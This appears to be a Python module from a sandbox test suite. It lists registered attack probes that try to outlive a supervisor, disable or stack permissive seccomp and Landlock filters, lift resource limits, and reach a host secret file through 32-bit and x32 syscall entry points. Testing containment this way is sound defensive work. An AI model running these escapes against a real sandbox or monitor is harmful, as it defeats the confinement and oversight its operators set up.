"""Undoing what the lock-down did, and other ways into the kernel."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import resource
import signal
import struct

from attacks.files import opened, secret_of
from attacks.kernel import MACHINE, NUMBERS, call, call_number, memory, prctl
from attacks.machine_code import enter_by_int_80, low_memory
from attacks.registry import Foiled, Unavailable, attack
from attacks.targets import Targets

_PR_SET_PDEATHSIG, _PR_SET_DUMPABLE, _PR_SET_SECCOMP = 1, 4, 22
_F_SETFL, _F_SETOWN, _F_SETSIG, _F_GETSIG = 4, 8, 10, 11
_STDERR = 2
_X32 = 0x4000_0000
_I386_GETPID, _I386_OPEN, _I386_SOCKETCALL = 20, 5, 102


def lifelines() -> list[int]:
    """Descriptors whose end is this process's: those that ask for SIGKILL."""
    found = []
    for fd in range(256):
        try:
            if call("fcntl", fd, _F_GETSIG) == signal.SIGKILL:
                found.append(fd)
        except OSError:
            continue
    if not found:
        raise Foiled("there is none")
    return found


def is_open_for(name: str, fd: int) -> bool:
    """Whether ``read`` or ``write`` of nothing finds the descriptor open for it; neither moves a byte."""
    try:
        call(name, fd, memory(1), 0)
    except OSError as error:
        return error.errno != errno.EBADF
    return True


def read_ends() -> list[int]:
    """Descriptors that can be read and not be written: pipes from elsewhere, found by calls that every worker needs."""
    return [fd for fd in range(256) if is_open_for("read", fd) and not is_open_for("write", fd)]


@attack
def lifeline_without_a_signal(targets: Targets) -> str:
    """F_SETSIG 0 on the pipes that end this process with its supervisor"""
    for fd in lifelines():
        call("fcntl", fd, _F_SETSIG, signal.SIGURG)
    return "it would outlive its supervisor"


@attack
def lifeline_of_somebody_else(targets: Targets) -> str:
    """F_SETOWN of those pipes to nobody"""
    for fd in lifelines():
        call("fcntl", fd, _F_SETOWN, 0)
    return "it would outlive its supervisor"


@attack
def lifeline_asleep(targets: Targets) -> str:
    """F_SETFL without O_ASYNC"""
    for fd in lifelines():
        call("fcntl", fd, _F_SETFL, os.O_NONBLOCK)
    return "it would outlive its supervisor"


@attack
def lifeline_with_dirty_command(targets: Targets) -> str:
    """F_SETFL with a bit set above the command's 32"""
    for fd in lifelines():
        call("fcntl", fd, _F_SETFL | 1 << 32, os.O_NONBLOCK)
    return "it would outlive its supervisor"


@attack
def lifeline_closed(targets: Targets) -> str:
    """close those pipes: nothing is left whose end could be noticed"""
    ends = read_ends()
    if not ends:
        raise Foiled("there is none")
    for fd in (*ends, _STDERR):
        call("close", fd)
    if read_ends():
        raise Foiled("they are still open")
    return "it would outlive its supervisor"


@attack
def dumpable_again(targets: Targets) -> str:
    """PR_SET_DUMPABLE: let its helpers look in"""
    prctl(_PR_SET_DUMPABLE, 1)
    return "dumpable"


@attack
def no_death_with_the_parent(targets: Targets) -> str:
    """PR_SET_PDEATHSIG 0"""
    prctl(_PR_SET_PDEATHSIG, 0)
    return "cleared"


@attack
def traced_by_anybody(targets: Targets) -> str:
    """PR_SET_PTRACER (where Yama guards), and PR_SET_MDWE and their kind"""
    try:
        prctl(0x59616D61, -1)
    except OSError as error:
        if error.errno == errno.EINVAL:
            raise Unavailable("this kernel has no Yama") from None
        raise
    return "anybody may"


@attack
def filter_off(targets: Targets) -> str:
    """PR_SET_SECCOMP with mode 0, then the file"""
    try:
        prctl(_PR_SET_SECCOMP, 0, 0)
    except OSError as error:
        if error.errno != errno.EINVAL:
            raise
    return secret_of(targets, opened(targets.secret_path))


@attack
def filter_that_allows_everything(targets: Targets) -> str:
    """one more seccomp filter, which allows all, then the file"""
    program, header = memory(8), memory(16)
    program[:] = struct.pack("=HBBI", 6, 0, 0, 0x7FFF_0000)
    header[:] = struct.pack("=HxxxxxxQ", 1, ctypes.addressof(program))
    call("seccomp", 1, 0, header)
    return secret_of(targets, opened(targets.secret_path))


@attack
def filter_with_a_listener(targets: Targets) -> str:
    """a seccomp filter that asks the attacker (SECCOMP_FILTER_FLAG_NEW_LISTENER)"""
    program, header = memory(8), memory(16)
    program[:] = struct.pack("=HBBI", 6, 0, 0, 0x7FFF_0000)
    header[:] = struct.pack("=HxxxxxxQ", 1, ctypes.addressof(program))
    return f"descriptor {call('seccomp', 1, 8, header)}"


@attack
def rules_that_allow_everything(targets: Targets) -> str:
    """one more Landlock ruleset, which forbids only to make sockets, then the file"""
    attributes = memory(8)
    attributes[:] = struct.pack("=Q", 1 << 9)  # LANDLOCK_ACCESS_FS_MAKE_SOCK
    ruleset = call("landlock_create_ruleset", attributes, 8, 0)
    call("landlock_restrict_self", ruleset, 0)
    return secret_of(targets, opened(targets.secret_path))


@attack
def descriptors_without_limit(targets: Targets) -> str:
    """raise RLIMIT_NOFILE above its hard limit"""
    limits = memory(16)
    limits[:] = struct.pack("=QQ", 65_536, 65_536)
    call("prlimit64", 0, resource.RLIMIT_NOFILE, limits, None)
    return "raised"


@attack
def memory_without_limit(targets: Targets) -> str:
    """raise RLIMIT_DATA above its hard limit"""
    limits = memory(16)
    limits[:] = struct.pack("=QQ", 1 << 60, 1 << 60)
    call("prlimit64", 0, resource.RLIMIT_DATA, limits, None)
    return "raised"


@attack
def limit_at_a_round_address(targets: Targets) -> str:
    """lower a limit, by a pointer whose low half is 0: a filter that compares 32 bits takes it for none"""
    address = call("mmap", 1 << 32, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x10_0000, -1, 0)
    if address != 1 << 32:  # MAP_FIXED_NOREPLACE
        raise Foiled("that address is taken")
    ctypes.memmove(address, struct.pack("=QQ", 0, 0), 16)
    call("prlimit64", 0, resource.RLIMIT_CORE, address, None)
    return "set"


@attack
def own_clock(targets: Targets) -> str:
    """timer_create: signals at will"""
    identity = memory(4)
    call("timer_create", 1, None, identity)
    return "a timer"


@attack
def entry_of_32_bits(targets: Targets) -> str:
    """int 0x80, where other numbers count: getpid"""
    return f"process {enter_by_int_80(_I386_GETPID)}"


@attack
def file_by_32_bits(targets: Targets) -> str:
    """int 0x80: open of the host's file"""
    path = low_memory(targets.secret_path.encode() + b"\0")
    return secret_of(targets, enter_by_int_80(_I386_OPEN, path, os.O_RDONLY, 0))


@attack
def socket_by_32_bits(targets: Targets) -> str:
    """int 0x80: socketcall, one number for everything about sockets"""
    arguments = low_memory(struct.pack("=III", 2, 1, 0), 4096)
    return f"descriptor {enter_by_int_80(_I386_SOCKETCALL, 1, arguments)}"


def by_x32(name: str, *arguments: object) -> int:
    if MACHINE != "x86_64":
        raise Unavailable(f"{MACHINE} has no x32")
    try:
        return call_number(_X32 + NUMBERS[name], *arguments)
    except OSError as error:
        if error.errno == errno.ENOSYS:
            raise Unavailable("this kernel has no x32") from None
        raise


@attack
def entry_of_x32(targets: Targets) -> str:
    """a number with bit 30: getpid"""
    return f"process {by_x32('getpid')}"


@attack
def file_by_x32(targets: Targets) -> str:
    """a number with bit 30: open of the host's file"""
    return secret_of(targets, by_x32("open", targets.secret_path.encode(), os.O_RDONLY, 0))


@attack
def thread_pointer(targets: Targets) -> str:
    """arch_prctl: switch off cpuid, so that libraries choose other code"""
    call("arch_prctl", 0x1012, 1)  # ARCH_SET_CPUID, to on
    return "set"


@attack
def all_signals_blocked(targets: Targets) -> str:
    """block every signal that can be blocked (SIGKILL cannot)"""
    mask = memory(8)
    mask[:] = b"\xff" * 8
    call("rt_sigprocmask", 0, mask, None, 8)
    return "blocked"
